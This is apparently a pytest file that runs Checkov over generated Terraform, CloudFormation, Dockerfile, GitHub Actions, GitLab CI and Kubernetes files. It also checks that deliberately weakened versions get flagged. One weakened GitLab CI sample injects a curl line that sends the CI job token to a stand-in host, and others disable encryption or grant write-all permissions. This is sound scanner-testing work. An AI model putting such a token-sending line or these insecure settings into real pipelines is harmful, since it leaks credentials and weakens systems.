"""Checkov finds nothing in what is generated but what is passed over for a written reason, and refuses the spoilt."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, NamedTuple

import pytest
from tests.generate.checkov.conftest import checkov
from tests.generate.cloudformation.test_templates import every_template
from tests.generate.containers.test_readers import image_files
from tests.generate.kubernetes.clusters import CLUSTER, built
from tests.generate.terraform.conftest import configurations, declared
from tests.generate.trees import all_designs, lay, said, texts_of

from loopwright.generate.passed_over import REASONS, SKIPPED

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

pytestmark = [pytest.mark.checkov, pytest.mark.verify]

MOST_REASONS = 15
SECONDS = 3000
IMAGES = ("containers", "compose", "kubernetes")  # the families that have some


def terraform() -> Iterator[dict[str, str]]:
    """Each folder that is declared for an example, by the provider's forces and by the others'."""
    for one in configurations():
        yield one.texts
    for name, force in all_designs():
        yield from declared(name, force).values()


def cloudformation() -> Iterator[dict[str, str]]:
    for _, texts in every_template():
        yield {"template.yaml": texts["template.yaml"]}


def dockerfile() -> Iterator[dict[str, str]]:
    for _, text in image_files():
        yield {"Dockerfile": text}
    for name, force in all_designs():
        for family in IMAGES:
            for path, text in texts_of(family, name, *force).items():
                if path.endswith("Dockerfile"):
                    yield {path: text}


def github_actions() -> Iterator[dict[str, str]]:
    yield from _alone("pipelines", ".github/workflows/")


def gitlab_ci() -> Iterator[dict[str, str]]:
    yield from _alone("gitlab", ".gitlab-ci.yml")


def _alone(family: str, beginning: str) -> Iterator[dict[str, str]]:
    for name, force in all_designs():
        for path, text in texts_of(family, name, *force).items():
            if path.startswith(beginning):
                yield {path: text}


def kubernetes() -> Iterator[dict[str, str]]:
    """What `kubectl kustomize` makes of each environment."""
    for name, force in all_designs():
        if CLUSTER in force:
            for environment, text in built(name, *force).items():
                yield {f"{environment}.yaml": text}


class Kind(NamedTuple):
    """What Checkov reads by one of its frameworks, how much at least, and what spoils one of it."""

    trees: Callable[[], Iterator[dict[str, str]]]
    least: int
    pattern: str
    instead: str
    check: str


KINDS = {
    "terraform": Kind(
        terraform, 80, r"storage_encrypted( +)= true", r"storage_encrypted\1= false", "CKV_AWS_16"
    ),
    "cloudformation": Kind(
        cloudformation, 15, "EnableKeyRotation: true", "EnableKeyRotation: false", "CKV_AWS_7"
    ),
    "dockerfile": Kind(dockerfile, 45, r"\nUSER \d+:\d+\n", "\n", "CKV_DOCKER_3"),
    "github_actions": Kind(
        github_actions, 60, r"\npermissions: \{\}\n", "\npermissions: write-all\n", "CKV2_GHA_1"
    ),
    "gitlab_ci": Kind(
        gitlab_ci,
        45,
        r"    - bash deploy/",
        "    - curl https://a.example/$CI_JOB_TOKEN\n    - bash deploy/",
        "CKV_GITLABCI_1",
    ),
    "kubernetes": Kind(
        kubernetes, 25, "readOnlyRootFilesystem: true", "readOnlyRootFilesystem: false", "CKV_K8S_22"
    ),
}


ALL = pytest.mark.parametrize(
    "framework",
    [pytest.param(one, marks=[pytest.mark.kubectl] if one == "kubernetes" else []) for one in KINDS],
)


def different(framework: str) -> list[dict[str, str]]:
    """Each different tree once."""
    return list({json.dumps(tree, sort_keys=True): tree for tree in KINDS[framework].trees()}.values())


def scanned(framework: str, trees: list[dict[str, str]], folder: Path) -> dict:
    """What Checkov says of trees, asked without the network."""
    for number, tree in enumerate(trees):
        lay(tree, folder / f"{number:03d}")
    asked = ("-d", folder, "--framework", framework, "--skip-download", "--compact", "--quiet", "-o", "json")
    _, printed = said(checkov(), *asked, seconds=SECONDS)
    return json.loads(printed[printed.index("{") :])


@ALL
def test_no_check_fails_and_what_is_passed_over_has_its_reason(framework, tmp_path):
    trees = different(framework)
    assert len(trees) >= KINDS[framework].least
    found = scanned(framework, trees, tmp_path)
    failed = {
        (one["check_id"], one["resource"], one["file_path"]) for one in found["results"]["failed_checks"]
    }
    assert failed == set()
    assert found["summary"]["parsing_errors"] == 0
    assert found["summary"]["passed"] > len(trees)


@ALL
def test_a_spoilt_file_is_refused(framework, tmp_path):
    kind = KINDS[framework]
    tree = next(one for one in kind.trees() if any(re.search(kind.pattern, text) for text in one.values()))
    spoilt = {path: re.sub(kind.pattern, kind.instead, text) for path, text in tree.items()}
    found = scanned(framework, [spoilt], tmp_path)
    assert kind.check in {one["check_id"] for one in found["results"]["failed_checks"]}


def test_reasons_are_few_and_each_check_has_one():
    assert len(REASONS) <= MOST_REASONS
    assert len(SKIPPED) == sum(map(len, REASONS.values()))
